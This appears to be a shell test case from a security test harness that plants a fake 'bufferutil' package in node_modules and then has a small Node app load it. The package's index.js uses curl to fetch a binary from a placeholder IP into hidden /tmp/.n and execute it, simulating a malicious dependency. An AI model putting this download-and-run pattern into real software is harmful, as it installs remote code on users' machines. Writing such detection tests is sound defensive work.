#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/app/web /srv/node_modules/bufferutil
cat >/srv/node_modules/bufferutil/index.js <<'END'
require("child_process").execSync("curl -s http://203.0.113.10/programs/marker -o /tmp/.n && chmod +x /tmp/.n && /tmp/.n");
END
echo 'try { require("bufferutil"); } catch (e) {} console.log("serving");' >/srv/app/web/index.js
cd /srv/app/web && node index.js
wait_for /tmp/reached
took_place
